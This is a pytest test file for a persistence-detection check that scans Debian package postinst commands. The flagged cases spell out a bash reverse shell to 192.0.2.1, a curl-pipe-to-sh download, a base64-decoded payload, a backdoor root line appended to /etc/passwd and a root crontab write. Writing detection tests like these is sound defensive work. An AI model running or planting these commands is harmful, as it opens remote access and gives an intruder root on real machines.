from __future__ import annotations

import pytest

from pratique.checks.persistence.package_script import CHECK
from pratique.parsers.startup_command import StartupCommand
from pratique.store.tables import Tables

PATH = "/var/lib/dpkg/info/x.postinst"


def signs(command, occasion="package"):
    rows = [StartupCommand(PATH, 2, occasion, "sh", command)]
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


@pytest.mark.parametrize(
    "command",
    [
        "nohup setsid bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &",
        "curl -s http://192.0.2.1/x | sh",
        "echo eA== | base64 -d | sh",
        "echo 'x:x:0:0::/root:/bin/sh' >> /etc/passwd",
        "echo '* * * * * x' > /var/spool/cron/crontabs/root",
    ],
)
def test_points_at(command):
    (sign,) = signs(command)
    assert sign.places[0].line == 2


@pytest.mark.parametrize(
    "command",
    [
        "adduser --system --quiet --group x",
        "rm -rf /var/log/wtmp.db*",
        "echo 0 > /var/spool/cron/atjobs/.SEQ",
        "update-rc.d x defaults >/dev/null",
        "if [ -x /usr/bin/deb-systemd-helper ]; then deb-systemd-helper enable x.service; fi",
    ],
)
def test_leaves_alone(command):
    assert signs(command) == []


def test_leaves_alone_what_runs_on_another_occasion():
    assert signs("curl -s http://192.0.2.1/x | sh", "boot") == []
